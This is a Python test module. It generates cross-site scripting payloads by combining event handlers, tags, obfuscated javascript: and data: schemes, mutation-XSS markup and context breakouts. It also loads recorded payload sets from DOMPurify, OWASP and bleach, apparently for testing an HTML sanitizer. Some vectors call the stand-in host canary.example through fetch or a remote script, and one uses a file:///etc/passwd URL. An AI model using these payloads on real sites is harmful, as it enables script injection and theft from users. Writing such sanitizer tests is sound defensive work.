"""Attacks on whoever shows foreign text as HTML, made by rule: what runs × how it is wrapped × how it is written.

Every payload that a browser would act on asks for `CANARY` or opens a dialog.
"""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from itertools import product
from pathlib import Path

from tests import shared_data

CANARY = "http://canary.example/hit"
_RUN = f"alert(1);fetch('{CANARY}')"

_HANDLERS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onpointerenter", "onanimationstart", "ontoggle", "onbegin",
    "onpageshow", "onwheel", "oncut", "onscroll", "onstart", "onhashchange",
)  # fmt: skip
_HOLDERS = (
    "img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "a href=x", "marquee", "p", "select autofocus",
    "audio src=x", "object data=x", "isindex", "table background=x", "custom-element tabindex=1",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java\x00script:{}",
    "java\x0bscript:{}",
    "javascript&colon;{}",
    "javascript&#58;{}",
    "&#106;&#97;vascript:{}",
    "&#x6A;&#x61;vascript:{}",
    "&#0000106avascript:{}",
    "java&Tab;script:{}",
    "java&NewLine;script:{}",
    "javascript://x%0a{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "//canary.example/{}",
    "\\\\canary.example\\{}",
    "file:///etc/passwd?{}",
    "blob:{}",
    "ｊavascript:{}",
)
_CARRIERS = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<iframe src="{}"></iframe>', '<img src="{}">',
    '<form action="{}"><input type=submit></form>', '<button formaction="{}">x</button>', '<object data="{}"></object>',
    '<embed src="{}">', '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<math href="{}">x</math>',
    '<base href="{}">', '<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">',
    '<area href="{}">', '<img srcset="{} 1x">', '<table background="{}">', '<blockquote cite="{}">x</blockquote>',
    '<video poster="{}"></video>', '<svg><animate attributeName=href values="{}"/></svg>',
)  # fmt: skip
_WHOLE = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT\n>",
    "<script/x>{}</script>",
    "<script src=//canary.example/hit.js></script>",
    "<<script>{}//<</script>",
    "<script\x0c>{}</script>",
    "<scr<script>ipt>{}</script>",
    "<style>*{{background:url(http://canary.example/hit)}}</style>",
    "<style>@import 'http://canary.example/hit';</style>",
    '<p style="background:url(http://canary.example/hit)">x</p>',
    '<p style="position:fixed;inset:0" class=top id=content>x</p>',
    '<a id=content name=q href="http://canary.example/hit">x</a>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;{}&lt;/script&gt;"></iframe>',
    "<svg><script>{}</script></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg></p><style><a title='</style><img src=x onerror={}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={}>",
    "<math><mi><style><a title='</style><img src=x onerror={}>'></a></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<textarea><img src=x onerror={}></textarea>",
    "<title><img src=x onerror={}></title>",
    "<xmp><img src=x onerror={}></xmp>",
    "<plaintext><img src=x onerror={}>",
    "<!--<img src='--><img src=x onerror={}>'>",
    "<!--><script>{}</script>-->",
    "<![CDATA[><script>{}</script>]]>",
    "<?xml-stylesheet href='http://canary.example/hit'?><script>{}</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>{}</script>'>]>&y;",
    "<b>\u0338 onclick={} x</b>",
    "<b>&#x338; onmouseover={}</b>",
    "<img src=x\u2028onerror={}>",
    "<img/src=x/onerror={}>",
    "<img\tsrc=x\x0conerror={}>",
    "<img src=`x`onerror={}>",
    "<img src='x'onerror='{}'>",
    '<img """><script>{}</script>">',
    "<a href='x' onclick\x00={}>x</a>",
    "<\x00script>{}</script>",
    "＜script＞{}＜/script＞",
    "<x xmlns:xlink=http://www.w3.org/1999/xlink xlink:href=javascript:{}>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% raw %}}${{{}}}<%= {} %>",
)
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea></style></script>{}",
    "-->{}",
    "]]>{}",
    '" onmouseover=alert(1) x="{}',
    "<p>Text</p>{}<p>Text",
    "<table><tr><td>{}",
    "5 < 6 &amp;{}",
    "<b title='{}",
)  # fmt: skip


def _vectors() -> Iterator[str]:
    for handler, holder in product(_HANDLERS, _HOLDERS):
        yield f"<{holder} {handler}={_RUN}>x"
    for scheme, carrier in product(_SCHEMES, _CARRIERS):
        yield carrier.replace("{}", scheme.replace("{}", _RUN))
    for whole in _WHOLE:
        yield whole.format(*[_RUN] * whole.count("{}"))
    for scheme in _SCHEMES:  # alone: as a link, an enclosure, a guid
        yield scheme.replace("{}", _RUN)


def _written(vector: str) -> Iterator[str]:
    yield vector
    yield html.escape(vector)
    yield vector.replace("<", "&#60;").replace(">", "&#x3e;")


def made() -> list[str]:
    """Every payload of this file, always in the same order."""
    all_of = (
        around.replace("{}", written)
        for around, vector in product(_AROUND, _vectors())
        for written in (_written(vector) if around == "{}" else [vector])
    )
    return list(dict.fromkeys(all_of))


def recorded() -> list[str]:
    """Payloads that others have collected, where they lie beside the checkout."""
    folder = shared_data.folder("xss-payloads")
    purify = [case["payload"] for case in json.loads((folder / "dompurify-expect.json").read_text(encoding="utf-8"))]
    owasp = json.loads((folder / "owasp-filter-evasion.json").read_text(encoding="utf-8"))
    cases = [_input(path) for path in sorted((folder / "bleach").glob("*.test"))]
    return list(dict.fromkeys([*purify, *owasp, *cases]))


def _input(path: Path) -> str:
    return path.read_text(encoding="utf-8").partition("\n--\n")[0]
